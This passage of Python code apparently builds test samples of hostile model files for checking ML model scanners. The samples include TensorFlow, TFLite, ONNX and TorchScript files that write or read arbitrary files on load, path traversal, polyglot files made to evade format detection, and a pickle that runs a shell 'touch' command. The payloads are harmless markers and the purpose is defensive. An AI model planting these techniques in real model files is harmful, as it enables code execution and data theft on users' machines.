            tensor_name=tf_attr(s="msg:0"),
            debug_urls=tf_attr(list=pb((2, "file://" + str(p.marker.parent / p.marker.name)))),
            gated_grpc=tf_attr(b=False),
        ),
    ]
    return write_saved_model(
        out / "sm_debug", tf_saved_model(tf_function_model(nodes, "dbg:output:0"))
    )


def build_tf_summary_writer(out: Path, p: Payload) -> Path:
    """A summary writer resource: CreateSummaryFileWriter(logdir) + WriteScalarSummary."""
    nodes = [
        tf_node(
            "writer",
            "SummaryWriter",
            shared_name=tf_attr(s="w"),
            container=tf_attr(s=""),
        ),
        tf_const_string("logdir", str(p.marker)),
        tf_node(
            "q",
            "Const",
            dtype=tf_attr(type=DT_INT32),
            value=tf_attr(tensor=pb((1, DT_INT32), (7, 10))),
        ),
        tf_node(
            "ms",
            "Const",
            dtype=tf_attr(type=DT_INT32),
            value=tf_attr(tensor=pb((1, DT_INT32), (7, 100))),
        ),
        tf_const_string("sfx", ".v2"),
        tf_node(
            "step",
            "Const",
            dtype=tf_attr(type=DT_INT64),
            value=tf_attr(tensor=pb((1, DT_INT64), (10, 1))),
        ),
        tf_const_string("tag", "loss"),
        tf_node(
            "val",
            "Const",
            dtype=tf_attr(type=DT_FLOAT),
            value=tf_attr(tensor=pb((1, DT_FLOAT), (5, 1.0))),
        ),
        tf_node(
            "create",
            "CreateSummaryFileWriter",
            ("writer:writer:0", "logdir:output:0", "q:output:0", "ms:output:0", "sfx:output:0"),
        ),
        tf_node(
            "write",
            "WriteScalarSummary",
            ("writer:writer:0", "step:output:0", "tag:output:0", "val:output:0", "^create"),
            T=tf_attr(type=DT_FLOAT),
        ),
        tf_node("flush", "FlushSummaryWriter", ("writer:writer:0", "^write")),
        tf_const_string("out", "ok"),
    ]
    return write_saved_model(
        out / "sm_summary", tf_saved_model(tf_function_model(nodes, "out:output:0"))
    )


def build_tf_immutable_const(out: Path, p: Payload) -> Path:
    """ImmutableConst maps ``memory_region_name`` (any file) into a tensor."""
    p.canary.write_bytes(p.token.encode().ljust(16, b" "))
    shape = pb((2, pb((1, 4))))
    nodes = [
        tf_node(
            "mapped",
            "ImmutableConst",
            dtype=tf_attr(type=DT_FLOAT),
            shape=tf_attr(shape=shape),
            memory_region_name=tf_attr(s=str(p.canary)),
        ),
        tf_node("out", "AsString", ("mapped:tensor:0",), T=tf_attr(type=DT_FLOAT)),
    ]
    return write_saved_model(
        out / "sm_immutable", tf_saved_model(tf_function_model(nodes, "out:output:0"))
    )


def build_tf_eager_pyfunc(out: Path, p: Payload) -> Path:
    """EagerPyFunc / PyFunc call a Python function registered in the host process."""
    nodes = [
        tf_const_string("arg", "x"),
        tf_node(
            "py",
            "EagerPyFunc",
            ("arg:output:0",),
            token=tf_attr(s="pyfunc_0"),
            Tin=tf_attr(list=pb((6, DT_STRING))),
            Tout=tf_attr(list=pb((6, DT_STRING))),
        ),
    ]
    return write_saved_model(
        out / "sm_pyfunc", tf_saved_model(tf_function_model(nodes, "py:output:0"))
    )


def build_tf_frozen_graphdef(out: Path, p: Payload) -> Path:
    """A frozen GraphDef (``frozen_graph.pb``, TF1 style), not a SavedModel."""
    nodes = [
        tf_const_string("path", str(p.marker)),
        tf_const_string("contents", "x"),
        tf_node("write", "WriteFile", ("path", "contents")),
        tf_node("out", "Identity", ("contents", "^write"), T=tf_attr(type=DT_STRING)),
    ]
    graph = pb(*[(1, n) for n in nodes], (4, pb((1, 1645), (2, 12))))
    path = out / "frozen_graph.pb"
    path.write_bytes(graph)
    return path


def build_tf_save_dataset(out: Path, p: Payload) -> Path:
    """tf.data writers: SaveDatasetV2 (Dataset.save) and DatasetToTFRecord write to a path."""
    nodes = [
        tf_const_string("dir", str(p.marker)),
        tf_const_string("rec", str(p.marker) + ".tfrecord"),
        tf_const_string("comp", ""),
        tf_node(
            "ds",
            "TensorSliceDataset",
            ("dir:output:0",),
            Toutput_types=tf_attr(list=pb((6, DT_STRING))),
            output_shapes=tf_attr(list=pb((7, b""))),
        ),
        tf_node(
            "save",
            "SaveDatasetV2",
            ("ds:handle:0", "dir:output:0", "shard_args:output:0"),
            compression=tf_attr(s=""),
            shard_func=tf_attr(func=pb((1, "__inference_shard_7"))),
            use_shard_func=tf_attr(b=False),
            Tshard_func_args=tf_attr(list=b""),
            output_types=tf_attr(list=pb((6, DT_STRING))),
            output_shapes=tf_attr(list=pb((7, b""))),
        ),
        tf_node("tfrec", "DatasetToTFRecord", ("ds:handle:0", "rec:output:0", "comp:output:0")),
        tf_node("out", "Identity", ("dir:output:0", "^tfrec"), T=tf_attr(type=DT_STRING)),
    ]
    return write_saved_model(
        out / "sm_dataset", tf_saved_model(tf_function_model(nodes, "out:output:0"))
    )


def build_tf_decode_proto_descriptor(out: Path, p: Payload) -> Path:
    """DecodeProtoV2's ``descriptor_source`` attribute names a file it reads at kernel creation."""
    p.canary.write_text(p.token)
    nodes = [
        tf_const_string("bytes", ""),
        tf_node(
            "decode",
            "DecodeProtoV2",
            ("bytes:output:0",),
            message_type=tf_attr(s="pkg.Msg"),
            field_names=tf_attr(list=pb((2, "f"))),
            output_types=tf_attr(list=pb((6, DT_STRING))),
            descriptor_source=tf_attr(s=str(p.canary)),
            message_format=tf_attr(s="binary"),
            sanitize=tf_attr(b=False),
        ),
        tf_node("out", "Identity", ("decode:values:0",), T=tf_attr(type=DT_STRING)),
    ]
    return write_saved_model(
        out / "sm_decodeproto", tf_saved_model(tf_function_model(nodes, "out:output:0"))
    )


def build_tf_keras_metadata_lambda(out: Path, p: Payload) -> Path:
    """tf_keras SavedModel: keras_metadata.pb holds a Lambda with bytecode (legacy format).

    SavedMetadata: nodes=1 (SavedObject: node_id=2, node_path=3, identifier=4,
    metadata=5 JSON, version=6). tf_keras rebuilds layers from this JSON with
    ``func_load`` when ``tf.keras.models.load_model`` reads the folder.
    """
    layer_json = {
        "class_name": "Lambda",
        "name": "lam",
        "trainable": True,
        "expects_training_arg": False,
        "dtype": "float32",
        "batch_input_shape": None,
        "stateful": False,
        "must_restore_from_config": False,
        "config": {
            "name": "lam",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_code_b64(p.marker), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    model_json = {
        "class_name": "Sequential",
        "name": "sequential",
        "config": {
            "name": "sequential",
            "layers": [{"class_name": "Lambda", "config": layer_json["config"]}],
        },
        "is_graph_network": True,
    }
    version = pb((1, 1), (2, 1))
    nodes = [
        pb(
            (2, 0),
            (3, "root"),
            (4, "_tf_keras_sequential"),
            (5, json.dumps(model_json)),
            (6, version),
        ),
        pb(
            (2, 1),
            (3, "root.layer-0"),
            (4, "_tf_keras_layer"),
            (5, json.dumps(layer_json)),
            (6, version),
        ),
    ]
    folder = out / "tf_keras_savedmodel"
    write_saved_model(folder, tf_saved_model(tf_meta_graph([tf_const_string("c", "x")])))
    (folder / "keras_metadata.pb").write_bytes(pb(*[(1, n) for n in nodes]))
    return folder


def build_tf_saver_restore_hook(out: Path, p: Payload) -> Path:
    """TF1 loaders run the saver's restore op and the main op while loading, no call needed.

    ``saver_def.restore_op_name`` is a NoOp that waits on a WriteFile, and the
    ``saved_model_main_op`` collection names another; ``tf.compat.v1.saved_model.load``
    runs both before returning.
    """
    nodes = [
        tf_node("save/filename", "Placeholder", dtype=tf_attr(type=DT_STRING)),
        tf_const_string("hook/path", str(p.marker)),
        tf_const_string("hook/contents", "x"),
        tf_node("hook/write", "WriteFile", ("hook/path", "hook/contents")),
        tf_node("save/restore_all", "NoOp", ("^hook/write",)),
        tf_node("save/Const", "Identity", ("save/filename",), T=tf_attr(type=DT_STRING)),
        tf_node("main_op", "NoOp", ("^hook/write",)),
    ]
    saver = pb((1, "save/filename:0"), (2, "save/Const:0"), (3, "save/restore_all"), (4, 5), (7, 2))
    collections = {"saved_model_main_op": pb((1, pb((1, "main_op"))))}
    meta = tf_meta_graph(nodes, saver=saver, collections=collections)
    return write_saved_model(out / "sm_saver_hook", tf_saved_model(meta))


def build_tf_table_initializer_file(out: Path, p: Payload) -> Path:
    """A lookup table initialised from a text file at load, the path a Const (not an asset)."""
    p.canary.write_text(p.token + "\n")
    nodes = [
        tf_node(
            "table",
            "HashTableV2",
            key_dtype=tf_attr(type=DT_STRING),
            value_dtype=tf_attr(type=DT_INT64),
            shared_name=tf_attr(s="vocab"),
            container=tf_attr(s=""),
        ),
        tf_const_string("vocab_path", str(p.canary)),
        tf_node(
            "init",
            "InitializeTableFromTextFileV2",
            ("table:table_handle:0", "vocab_path:output:0"),
            key_index=tf_attr(i=-2),
            value_index=tf_attr(i=-1),
            vocab_size=tf_attr(i=-1),
            delimiter=tf_attr(s="\t"),
        ),
        tf_const_string("out", "ok"),
    ]
    function = tf_function(
        "__inference_initializer_55", nodes, outputs={"output_0": "out:output:0"}
    )
    meta = tf_meta_graph(
        tf_call_graph("__inference_initializer_55"),
        [function],
        collections={"table_initializer": pb((1, pb((1, "StatefulPartitionedCall"))))},
    )
    return write_saved_model(out / "sm_table_init", tf_saved_model(meta))


def check_tf_schemas(paths: list[Path]) -> list[str]:
    """Parse every TensorFlow sample with the generated classes tensorboard ships.

    Returns one problem per sample that does not parse (empty: all parse). Needs
    ``pip install --no-deps --target /tmp/heldout-tb tensorboard``.
    """
    sys.path.insert(0, "/tmp/heldout-tb")
    from google.protobuf import text_format
    from google.protobuf.internal import decoder
    from tensorboard.compat.proto import graph_pb2, meta_graph_pb2

    problems = []
    for path in paths:
        for file in sorted(path.rglob("*") if path.is_dir() else [path]):
            try:
                if file.name == "saved_model.pb":
                    data = file.read_bytes()
                    meta = meta_graph_pb2.MetaGraphDef()
                    # SavedModel is {1: int64, 2: repeated MetaGraphDef}; unwrap by hand.
                    pos = 0
                    while pos < len(data):
                        tag, pos = decoder._DecodeVarint(data, pos)
                        if tag & 7 == 0:
                            _, pos = decoder._DecodeVarint(data, pos)
                            continue
                        length, pos = decoder._DecodeVarint(data, pos)
                        if tag >> 3 == 2:
                            meta.ParseFromString(data[pos : pos + length])
                        pos += length
                    if not meta.graph_def.node:
                        problems.append(f"{file}: no nodes")
                elif file.name == "saved_model.pbtxt":
                    text = file.read_text()
                    body = text.split("meta_graphs {", 1)[1].rsplit("}", 1)[0]
                    text_format.Parse(body, meta_graph_pb2.MetaGraphDef())
                elif file.name == "frozen_graph.pb":
                    graph = graph_pb2.GraphDef()
                    graph.ParseFromString(file.read_bytes())
                    if not graph.node:
                        problems.append(f"{file}: no nodes")
            except Exception as exc:
                problems.append(f"{file}: {exc!r}")
    return problems


# ---------------------------------------------------------------------------
# TensorFlow Lite -- flatbuffers written from tensorflow/lite/schema/schema.fbs
# ---------------------------------------------------------------------------


def flex_options(op: str, nodedef: bytes) -> bytes:
    """The Flex delegate's custom_options: a flexbuffer vector [op name, NodeDef].

    tensorflow/lite/delegates/flex/kernel.cc runs the op named by element 0
    (``OpKernelRunner::Create(name_, ...)``); the NodeDef supplies attributes and
    must only name a registered op.
    """
    from flatbuffers import flexbuffers

    fbb = flexbuffers.Builder()
    with fbb.Vector():
        fbb.String(op)
        fbb.String(nodedef.decode("ascii"))
    return bytes(fbb.Finish())


def tflite_model(
    ops: list[tuple[str, bytes]],
    *,
    deprecated_code_only: bool = False,
    metadata_zip: bytes | None = None,
) -> bytes:
    """A one-subgraph model whose operators are custom ops ``(custom_code, custom_options)``.

    Model: version=0, operator_codes=1, subgraphs=2, description=3, buffers=4,
    metadata=6. OperatorCode: deprecated_builtin_code=0 (byte), custom_code=1,
    version=2, builtin_code=3. SubGraph: tensors=0, inputs=1, outputs=2,
    operators=3, name=4. Tensor: shape=0, type=1, buffer=2, name=3. Operator:
    opcode_index=0, inputs=1, outputs=2, custom_options=5. Buffer: data=0.
    ``deprecated_code_only`` leaves builtin_code out (0, ADD): readers take
    max(deprecated_builtin_code, builtin_code), so the operator is still CUSTOM.
    """
    import flatbuffers

    b = flatbuffers.Builder(1024)

    def ivec(values: list[int]) -> int:
        b.StartVector(4, len(values), 4)
        for v in reversed(values):
            b.PrependInt32(v)
        return b.EndVector()

    def tvec(offsets: list[int]) -> int:
        b.StartVector(4, len(offsets), 4)
        for o in reversed(offsets):
            b.PrependUOffsetTRelative(o)
        return b.EndVector()

    buffers = []
    for data in [b"", *([metadata_zip] if metadata_zip is not None else [])]:
        vec = b.CreateByteVector(data) if data else None
        b.StartObject(1)
        if vec is not None:
            b.PrependUOffsetTRelativeSlot(0, vec, 0)
        buffers.append(b.EndObject())

    codes = []
    for custom_code, _ in ops:
        name = b.CreateString(custom_code)
        b.StartObject(4)
        b.PrependInt8Slot(0, 32, 0)  # CUSTOM in the deprecated byte
        b.PrependUOffsetTRelativeSlot(1, name, 0)
        b.PrependInt32Slot(2, 1, 1)
        if not deprecated_code_only:
            b.PrependInt32Slot(3, 32, 0)
        codes.append(b.EndObject())

    tensor_name = b.CreateString("t0")
    shape = ivec([1])
    b.StartObject(4)
    b.PrependUOffsetTRelativeSlot(0, shape, 0)
    b.PrependInt8Slot(1, 5, 0)  # STRING
    b.PrependUint32Slot(2, 0, 0)
    b.PrependUOffsetTRelativeSlot(3, tensor_name, 0)
    tensor = b.EndObject()

    operators = []
    for index, (_, options) in enumerate(ops):
        opts = b.CreateByteVector(options)
        ins, outs = ivec([0]), ivec([])
        b.StartObject(6)
        b.PrependUint32Slot(0, index, 0)
        b.PrependUOffsetTRelativeSlot(1, ins, 0)
        b.PrependUOffsetTRelativeSlot(2, outs, 0)
        b.PrependUOffsetTRelativeSlot(5, opts, 0)
        operators.append(b.EndObject())

    tensors, inputs, outputs, op_vec = tvec([tensor]), ivec([0]), ivec([0]), tvec(operators)
    sg_name = b.CreateString("main")
    b.StartObject(5)
    b.PrependUOffsetTRelativeSlot(0, tensors, 0)
    b.PrependUOffsetTRelativeSlot(1, inputs, 0)
    b.PrependUOffsetTRelativeSlot(2, outputs, 0)
    b.PrependUOffsetTRelativeSlot(3, op_vec, 0)
    b.PrependUOffsetTRelativeSlot(4, sg_name, 0)
    subgraph = b.EndObject()

    metadata = []
    if metadata_zip is not None:
        meta_name = b.CreateString("TFLITE_METADATA")
        b.StartObject(2)
        b.PrependUOffsetTRelativeSlot(0, meta_name, 0)
        b.PrependUint32Slot(1, 1, 0)
        metadata.append(b.EndObject())

    code_vec, sg_vec, buf_vec = tvec(codes), tvec([subgraph]), tvec(buffers)
    meta_vec = tvec(metadata) if metadata else None
    description = b.CreateString("MLIR Converted.")
    b.StartObject(7)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, code_vec, 0)
    b.PrependUOffsetTRelativeSlot(2, sg_vec, 0)
    b.PrependUOffsetTRelativeSlot(3, description, 0)
    b.PrependUOffsetTRelativeSlot(4, buf_vec, 0)
    if meta_vec is not None:
        b.PrependUOffsetTRelativeSlot(6, meta_vec, 0)
    model = b.EndObject()
    b.Finish(model, file_identifier=b"TFL3")
    return bytes(b.Output())


def flex_writefile(
    marker: Path, *, runtime_op: str = "WriteFile", nodedef_op: str = "WriteFile"
) -> bytes:
    nodedef = tf_node("write", nodedef_op, ("path", "contents"))
    del marker  # the path arrives as the model's input tensor at inference
    return flex_options(runtime_op, nodedef)


def build_tflite_flex_writefile(out: Path, p: Payload) -> Path:
    """A Flex (select TensorFlow ops) operator: FlexWriteFile."""
    path = out / "flex_writefile.tflite"
    path.write_bytes(tflite_model([("FlexWriteFile", flex_writefile(p.marker))]))
    return path


def build_tflite_flex_renamed(out: Path, p: Payload) -> Path:
    """custom_code FlexNoOp, NodeDef NoOp; the delegate runs flexbuffer element 0: WriteFile."""
    path = out / "flex_renamed.tflite"
    options = flex_writefile(p.marker, runtime_op="WriteFile", nodedef_op="NoOp")
    path.write_bytes(tflite_model([("FlexNoOp", options)]))
    return path


def build_tflite_deprecated_code(out: Path, p: Payload) -> Path:
    """CUSTOM only in deprecated_builtin_code; builtin_code absent (reads as ADD)."""
    path = out / "deprecated_code.tflite"
    path.write_bytes(
        tflite_model([("FlexWriteFile", flex_writefile(p.marker))], deprecated_code_only=True)
    )
    return path


def build_tflite_task_bundle(out: Path, p: Payload) -> Path:
    """A MediaPipe-style ``.task`` bundle (zip) holding a .tflite with a Flex op."""
    model = tflite_model(
        [("FlexWriteFile", flex_writefile(p.marker))],
        metadata_zip=zip_bytes([("labels.txt", b"a\nb\n")]),
    )
    return write_zip(
        out / "classifier.task",
        [("classifier.tflite", model), ("labels.txt", b"a\nb\n")],
    )


# ---------------------------------------------------------------------------
# ONNX -- built with onnx.helper; external data proved against onnxruntime 1.20
# (1.32 refuses every path below: a loader-version difference the report states)
# ---------------------------------------------------------------------------


def onnx_external_tensor(name: str, location: str, length: int = 16) -> Any:
    from onnx import TensorProto

    tensor = TensorProto()
    tensor.name = name
    tensor.data_type = TensorProto.UINT8
    tensor.dims.extend([length])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def onnx_identity_model(tensor: Any, *, as_constant: bool = False) -> Any:
    from onnx import TensorProto, helper

    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [16])
    if as_constant:
        nodes = [
            helper.make_node("Constant", [], ["w"], value=tensor),
            helper.make_node("Identity", ["w"], ["y"]),
        ]
        graph = helper.make_graph(nodes, "g", [], [y])
    else:
        graph = helper.make_graph(
            [helper.make_node("Identity", ["w"], ["y"])], "g", [], [y], initializer=[tensor]
        )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


def onnx_canary(p: Payload) -> None:
    p.canary.write_bytes(p.token.encode()[:16].ljust(16, b"_"))


def build_onnx_external_traversal(out: Path, p: Payload) -> Path:
    """Initializer external data ``../<canary>``: the runtime reads outside the folder."""
    onnx_canary(p)
    folder = out / "onnx_traversal"
    folder.mkdir(parents=True, exist_ok=True)
    model = onnx_identity_model(onnx_external_tensor("w", "../" + p.canary.name))
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    (out / p.canary.name).write_bytes(p.canary.read_bytes())
    return folder


def build_onnx_constant_external(out: Path, p: Payload) -> Path:
    """External data in a Constant node's ``value`` attribute, not in graph.initializer."""
    onnx_canary(p)
    folder = out / "onnx_constant"
    folder.mkdir(parents=True, exist_ok=True)
    tensor = onnx_external_tensor("w", str(p.canary))
    model = onnx_identity_model(tensor, as_constant=True)
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    return folder


def build_onnx_external_symlink(out: Path, p: Payload) -> Path:
    """``weights.bin`` in the model folder is a symbolic link to a file outside it."""
    onnx_canary(p)
    folder = out / "onnx_symlink"
    folder.mkdir(parents=True, exist_ok=True)
    model = onnx_identity_model(onnx_external_tensor("w", "weights.bin"))
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    link = folder / "weights.bin"
    if link.is_symlink() or link.exists():
        link.unlink()
    link.symlink_to(p.canary)
    return folder


def build_onnx_subgraph_external(out: Path, p: Payload) -> Path:
    """External data ``../<canary>`` in the ``then_branch`` subgraph of an If node."""
    from onnx import TensorProto, helper

    onnx_canary(p)
    tensor = onnx_external_tensor("w", "../" + p.canary.name)
    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [16])
    then_graph = helper.make_graph(
        [helper.make_node("Identity", ["w"], ["y"])], "then", [], [y], initializer=[tensor]
    )
    zeros = helper.make_tensor("z", TensorProto.UINT8, [16], bytes(16), raw=True)
    else_graph = helper.make_graph(
        [helper.make_node("Identity", ["z"], ["y"])], "else", [], [y], initializer=[zeros]
    )
    cond = helper.make_tensor("c", TensorProto.BOOL, [], [True])
    graph = helper.make_graph(
        [helper.make_node("If", ["c"], ["y"], then_branch=then_graph, else_branch=else_graph)],
        "g",
        [],
        [y],
        initializer=[cond],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    folder = out / "onnx_subgraph"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    (out / p.canary.name).write_bytes(p.canary.read_bytes())
    return folder


def build_onnx_reordered(out: Path, p: Payload) -> Path:
    """ModelProto with ``graph`` (field 7) first, over-long tags, ir_version last.

    ONNX files usually start ``08 <ir_version> 12 ...``; protobuf parsers take the
    fields in any order. The graph reads ``../<canary>`` as external data.
    """
    onnx_canary(p)
    model = onnx_identity_model(onnx_external_tensor("w", "../" + p.canary.name))
    graph = model.graph.SerializeToString()
    opset = model.opset_import[0].SerializeToString()
    data = pb((7, graph), (8, opset), (1, 8), long_varints=True)
    folder = out / "onnx_reordered"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.onnx").write_bytes(data)
    (out / p.canary.name).write_bytes(p.canary.read_bytes())
    return folder


def build_onnx_backslash_traversal(out: Path, p: Payload) -> Path:
    """External data ``..\\..\\secrets\\key.bin``: a traversal on Windows, one name on POSIX."""
    model = onnx_identity_model(onnx_external_tensor("w", "..\\..\\Users\\Public\\key.bin"))
    folder = out / "onnx_backslash"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    return folder


def build_onnx_custom_op_in_loop_function(out: Path, p: Payload) -> Path:
    """A custom-domain operator inside a model-local function called from a Loop body."""
    from onnx import TensorProto, helper

    function = helper.make_function(
        "local.fn",
        "Wrapped",
        ["a"],
        ["b"],
        [helper.make_node("Invoke", ["a"], ["b"], domain="com.example.native")],
        [helper.make_opsetid("", 17), helper.make_opsetid("com.example.native", 1)],
    )
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Wrapped", ["v_in"], ["v_out"], domain="local.fn"),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1]),
        ],
    )
    graph = helper.make_graph(
        [helper.make_node("Loop", ["n", "c", "v"], ["vf"], body=body)],
        "g",
        [helper.make_tensor_value_info("v", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("vf", TensorProto.FLOAT, [1])],
        initializer=[
            helper.make_tensor("n", TensorProto.INT64, [], [1]),
            helper.make_tensor("c", TensorProto.BOOL, [], [True]),
        ],
    )
    model = helper.make_model(
        graph,
        functions=[function],
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local.fn", 1)],
        ir_version=8,
    )
    path = out / "custom_loop.onnx"
    path.write_bytes(model.SerializeToString())
    return path


# ---------------------------------------------------------------------------
# TorchScript -- a torch.jit.save archive whose code/ is edited by hand, the way
# the TorchScript proofs of concept do; torch.jit.load compiles code/ again
# ---------------------------------------------------------------------------

TS_SETSTATE_TAIL = "    self.training = (state)[1]\n"


def torchscript_archive(marker: Path, statement: str) -> bytes:
    """A scripted module whose __setstate__ (run by torch.jit.load) runs ``statement``."""
    import torch

    class Holder(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.x = torch.zeros(1)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.x

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return (self.x, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            self.x = state[0]
            self.training = state[1]

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Holder()), buf)
    src = zipfile.ZipFile(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if "/code/" in info.filename and info.filename.endswith(".py"):
                # the class file: code/__torch__.py, or a mangled name when
                # several modules were scripted in one process
                text = data.decode()
                body = statement.format(marker=marker) + "\n    self.x = _0\n"
                text = text.replace(TS_SETSTATE_TAIL, TS_SETSTATE_TAIL + "    " + body)
                data = text.encode()
            if info.filename.endswith(".debug_pkl"):
                continue  # the debug info no longer matches the edited source
            dst.writestr(info.filename, data)
    return out.getvalue()


def _ts_builder(name: str, statement: str) -> Callable[[Path, Payload], Path]:
    def build(out: Path, p: Payload) -> Path:
        path = out / f"{name}.pt"
        path.write_bytes(torchscript_archive(p.marker, statement))
        return path

    build.__name__ = f"build_ts_{name}"
    return build


build_ts_from_file_shared = _ts_builder("ts_from_file", '_0 = torch.from_file("{marker}", True, 4)')
build_ts_getattr = _ts_builder(
    "ts_getattr", '_0 = getattr(torch, "from_file")("{marker}", True, 4)'
)
build_ts_ops_aten = _ts_builder("ts_ops_aten", '_0 = ops.aten.from_file("{marker}", True, 4)')
build_ts_parenthesised = _ts_builder(
    "ts_paren", '_0 = (torch).from_file(size=4, shared=True, filename="{marker}")'
)


# ---------------------------------------------------------------------------
# safetensors / GGUF polyglots and format-detection evasions
# ---------------------------------------------------------------------------


def torch_zip_payload(marker: Path, *, archive: str = "archive") -> list[tuple[str, bytes]]:
    return [
        (f"{archive}/data.pkl", pickle_touch(marker)),
        (f"{archive}/byteorder", b"little"),
        (f"{archive}/version", b"3\n"),
    ]


def build_safetensors_torch_polyglot(out: Path, p: Payload) -> Path:
    """A valid safetensors file that torch.load also opens as a checkpoint.

    The 8-byte header length is ``PK\\x03\\x04\\0\\0\\0\\0`` (67,324,752): the JSON
    header is padded to exactly that, so the file starts with a zip local-file
    signature; the torch zip (data.pkl with the payload) is the last U8 tensor,
    its central directory at the end of the file where torch's reader looks.
    """
    header_len = struct.unpack("<Q", b"PK\x03\x04\x00\x00\x00\x00")[0]
    prefix_len = 8 + header_len + 8  # length, header, the F32 tensor
    body = io.BytesIO()
    body.write(b"\x00" * prefix_len)
    with zipfile.ZipFile(body, "a") as zf:
        for name, data in torch_zip_payload(p.marker):
            zf.writestr(name, data)
    zip_part = body.getvalue()[prefix_len:]
    header = json.dumps(
        {
            "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "blob": {
                "dtype": "U8",
                "shape": [len(zip_part)],
                "data_offsets": [8, 8 + len(zip_part)],
            },
        }
    ).encode()
    header = header.ljust(header_len, b" ")
    path = out / "model.pt"  # torch.load hands files named *.safetensors to safetensors
    path.write_bytes(b"PK\x03\x04\x00\x00\x00\x00" + header + b"\x00" * 8 + zip_part)
    return path


def build_gguf_keras_polyglot(out: Path, p: Payload) -> Path:
    """A GGUF file (llama.cpp's reader accepts it) with a Lambda .keras zip after its data."""
    import gguf
    import numpy as np

    tmp = out / "_gguf_part.gguf"
    writer = gguf.GGUFWriter(str(tmp), "llama")
    writer.add_tensor("token_embd.weight", np.zeros((4, 4), np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    config, groups = keras_lambda_model(p.marker)
    path = out / "model.keras"
    path.write_bytes(tmp.read_bytes() + zip_bytes(keras_members(config, groups)))
    tmp.unlink()
    return path


def tar_header_ascii(name: str, size: int, typeflag: bytes) -> bytes:
    """A v7/ustar-less tar header of printable ASCII only (no NUL anywhere)."""
    fields = (
        name.encode().ljust(100, b" ")
        + b"0000644 "
        + b"0000000 "
        + b"0000000 "
        + f"{size:011o} ".encode()
        + b"14200000000 "
        + b"        "  # checksum placeholder
        + typeflag
        + b" " * 100  # linkname
        + b" " * 255  # magic, version, uname, gname, dev, prefix: all blank
    )
    assert len(fields) == 512
    checksum = sum(fields)
    return fields[:148] + f"{checksum:06o} ".encode() + b" " + fields[156:]


def build_text_tar_torch_legacy(out: Path, p: Payload) -> Path:
    """A file of printable ASCII that torch.load reads as a legacy tar checkpoint.

    A PAX header names the next member ``storages``; torch's legacy loader
    extracts it and unpickles it first. The pickle is protocol 0 (text), and
    every header byte is printable, so the file detects as text.
    """
    pax = b"17 path=storages\n"
    payload = f"cposix\nsystem\n(Vtouch {p.marker}\ntR.".encode()
    blob = (
        tar_header_ascii("PaxHeaders/storages" + " model card", len(pax), b"x")
        + pax.ljust(512, b"\n")
        + tar_header_ascii("README model notes", len(payload), b"0")
        + payload.ljust(512 * ((len(payload) + 511) // 512), b"\n")
        + b"\n" * 1024
    )
    path = out / "pytorch_model.bin"
    path.write_bytes(blob)
    return path


def build_tar_with_zip_appended(out: Path, p: Payload) -> Path:
    """A tar archive of harmless files with a .keras zip (Lambda) appended after it."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in (("README.md", b"# weights\n"), ("vocab.txt", b"a\nb\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    config, groups = keras_lambda_model(p.marker)
    path = out / "bundle.keras"
    path.write_bytes(buf.getvalue() + zip_bytes(keras_members(config, groups)))
    return path


def build_nemo_nested(out: Path, p: Payload) -> Path:
    """A .nemo-style archive: xz-compressed tar holding a torch zip checkpoint (pickle payload).

    NeMo's restore_from extracts the tar and torch.load()s model_weights.ckpt;
    the payload sits three containers deep (xz, tar, zip).
    """
    ckpt = zip_bytes(torch_zip_payload(p.marker, archive="model_weights"))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:xz") as tar:
        for name, data in (
            ("./model_config.yaml", b"name: asr\nsample_rate: 16000\n"),
            ("./model_weights.ckpt", ckpt),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path = out / "asr_model.nemo"
    path.write_bytes(buf.getvalue())
    return path


# ---------------------------------------------------------------------------
# Liveness scripts and the registry
# ---------------------------------------------------------------------------


def keras_live(*, safe_mode: bool, version: str | None = None, call: bool = False) -> Live:
    script = (
